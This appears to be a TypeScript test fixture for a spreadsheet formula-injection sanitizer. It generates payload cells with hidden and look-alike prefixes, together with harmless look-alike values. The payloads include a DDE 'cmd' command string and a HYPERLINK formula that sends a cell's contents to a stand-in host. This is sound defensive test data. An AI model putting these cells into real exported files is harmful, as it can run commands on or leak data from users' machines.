/** What stands before the lead: nothing, white space, or what a reader does not see. */
const before = [
  '',
  ' ',
  '\u00A0\u2003',
  '\u200B',
  '\uFEFF',
  '\u2060\u00AD',
  '\u202E',
  '\u3164',
  '\uFE0F',
  '\u2800',
  '\uD800',
  "'",
];
/** What makes a spreadsheet take a cell for something to run, in plain and in compatibility forms. */
const leads = ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠', '﹦', '﹢', '⁺', '₋', '\u2212'];
/** A cell that begins with one of these is split or read anew by some programs. */
const breaks = ['\t', '\r', '\n', '\0'];
const bodies = ["cmd|' /C calc'!A0", 'HYPERLINK("https://a.example/?"&A1,"open")', '1+1', 'SUM(1,1)",=1+1,"'];

/** Cells that would run, or might: each comes out with an apostrophe in front. */
export const payloads: string[] = [
  ...before.flatMap((start) => leads.flatMap((lead) => bodies.map((body) => start + lead + body))),
  ...breaks.flatMap((start) => [...bodies, ''].map((body) => start + body)),
  ...breaks.flatMap((start) => leads.map((lead) => `${start}${lead}1+1`)),
];

/** Behind these a spreadsheet that parts cells with `;` or tabs begins a new one, though they are inside ours. */
const partings = [';', '\n', '\r\n', '\t', '; ', ';;', '\n ', ";'", '\n\u200B', ';"', ';""'];

/** Cells that would run in part when they are split: each gets its apostrophe where it would begin to run. */
export const inside: string[] = partings.flatMap((parting) =>
  ['=', '+', '-', '@', '＝', '\u2212'].flatMap((lead) =>
    ['1+1', 'HYPERLINK("https://a.example","x")'].map((body) => `Cook${parting}${lead}${body}`),
  ),
);

/** Cells that look a little like it and stay exactly as they are. */
export const harmless: string[] = [
  '',
  'Cook',
  'cook = 1,200',
  '5-7 years',
  'a@b.example',
  '100%',
  '(=1+1)',
  '"=1+1"',
  '#1 kitchen',
  "'quoted' words",
  '🌹=1',
  '• - cook',
  '– cook',
  '\u0301=1',
  ' spaced ',
  '١+١',
  'line\r\n1=1+1',
  'pay; 1,200 = good',
  '1,2;3\t4',
];
